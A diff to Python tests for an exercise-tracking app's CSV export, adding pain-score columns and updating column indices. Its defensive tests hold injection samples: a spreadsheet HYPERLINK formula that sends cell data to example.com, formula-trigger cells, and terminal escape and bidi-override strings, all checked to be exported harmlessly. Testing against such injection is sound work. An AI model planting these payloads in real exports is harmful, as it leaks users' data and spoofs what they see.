@@ -16,7 +16,7 @@ from tests.storage.history_runs import RecordedRun, read_rows
 
 DATABASE_VIEW = """
 SELECT sessions.id, sessions.started_at, coalesce(sessions.ended_at, ''), sessions.status,
-       sessions.routine, exercises.position + 1, exercises.exercise_id, exercises.name,
+       sessions.routine, sessions.pain_before, sessions.pain_after, exercises.position + 1, exercises.exercise_id, exercises.name,
        exercises.outcome, exercises.variant, exercises.sides, exercises.reps_done,
        exercises.reps_target, iif(exercises.id, printf('%.3f', exercises.seconds), NULL),
        exercises.ended_at, iif(exercises.id, iif(exercises.redone, 'yes', 'no'), NULL)
@@ -52,12 +52,14 @@ def test_the_csv_export_equals_the_database(history: History) -> None:
     statuses = [row[3] for row in rows]
     assert statuses == ["finished"] * 3 + ["ended"] * 3 + ["interrupted"]
     # The rotation attempt gone back on is there, marked, beside the one that counts.
-    assert [(row[6], row[8], row[15]) for row in rows[3:6]] == [
+    assert [(row[8], row[10], row[17]) for row in rows[3:6]] == [
         ("tilt", "done", "no"),
         ("rotation", "done", "yes"),
         ("rotation", "skipped", "no"),
     ]
     assert rows[6][5:] == [""] * (len(COLUMNS) - 5)
+    # No scores were given: the pain columns are empty, not 0.
+    assert {(row[5], row[6]) for row in rows} == {("", "")}
 
 
 def test_the_plain_list_has_a_line_per_session(history: History) -> None:
@@ -86,9 +88,9 @@ def test_a_cell_a_spreadsheet_would_run_is_exported_as_text(history: History) ->
     write_csv(history.sessions(), out)
     _, *rows = csv.reader(io.StringIO(out.getvalue()))
     assert [row[4] for row in rows] == ['\'=HYPERLINK("http://example.com/?"&A1,"Open")'] * 2
-    assert [(row[6], row[7]) for row in rows] == [("'-2+3", "'@SUM(A1:A9)"), ("'+1", "'\\x09Tab")]
+    assert [(row[8], row[9]) for row in rows] == [("'-2+3", "'@SUM(A1:A9)"), ("'+1", "'\\x09Tab")]
     # The numbers stay numbers, for the spreadsheet to add up.
-    assert [(row[0], row[5], row[12], row[13]) for row in rows] == [
+    assert [(row[0], row[7], row[14], row[15]) for row in rows] == [
         ("1", "1", "10", "61.500"),
         ("1", "2", "10", "61.500"),
     ]
@@ -107,6 +109,6 @@ def test_control_characters_in_names_reach_the_csv_as_visible_escapes(history: H
     assert "\u202e" not in text
     (row,) = list(csv.reader(io.StringIO(text)))[1:]
     assert row[4] == "Title\\x1b]0;owned\\x07 \\u202eevil"
-    assert row[7] == "Red\\x1b[31m\\x0d\\x0aline\\x00\\x9b"
+    assert row[9] == "Red\\x1b[31m\\x0d\\x0aline\\x00\\x9b"
     # One line per row: an escaped line break cannot split a row in a tool that reads lines.
     assert len(text.splitlines()) == 2
